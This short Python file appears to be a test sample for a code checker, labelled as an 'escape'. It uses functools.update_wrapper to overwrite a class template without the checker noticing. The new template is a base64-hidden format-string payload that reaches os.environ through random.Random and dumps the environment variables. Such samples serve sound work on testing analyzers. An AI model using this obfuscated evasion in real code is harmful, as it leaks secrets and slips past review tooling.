# family: format
# Escape: functools.update_wrapper(obj, src, ("TEMPLATE",), ()) does setattr(obj, "TEMPLATE", src.TEMPLATE);
# the names it copies are checked, but not recorded as attribute stores, so TEMPLATE still counts as a class
# constant nothing assigns. The copied value is "{0.__init__.__globals__[_os].environ}", read via random.Random.
import base64
import functools
import random
import types


class Banner:
    TEMPLATE = "** {0} **"

    def show(self, value) -> str:
        return self.TEMPLATE.format(value)


def tool() -> str:
    banner = Banner()
    source = types.SimpleNamespace(TEMPLATE=base64.b64decode("ezAuX19pbml0X18uX19nbG9iYWxzX19bX29zXS5lbnZpcm9ufQ==").decode())
    functools.update_wrapper(banner, source, ("TEMPLATE",), ())
    return banner.show(random.Random())
